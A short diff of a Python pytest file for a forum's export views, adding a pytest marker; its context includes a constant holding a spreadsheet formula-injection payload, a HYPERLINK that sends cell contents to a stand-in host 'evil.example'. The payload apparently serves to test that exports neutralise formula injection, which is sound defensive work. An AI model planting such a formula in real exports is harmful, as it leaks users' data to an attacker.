@@ -14,6 +14,8 @@ import pytest
 from forum.models import boards, findings
 from forum.views.exports import COLUMNS, FEED_SIZE
 
+pytestmark = pytest.mark.both_stores
+
 V1 = "/api/v1"
 ENGLISH = {"Accept-Language": "en"}
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
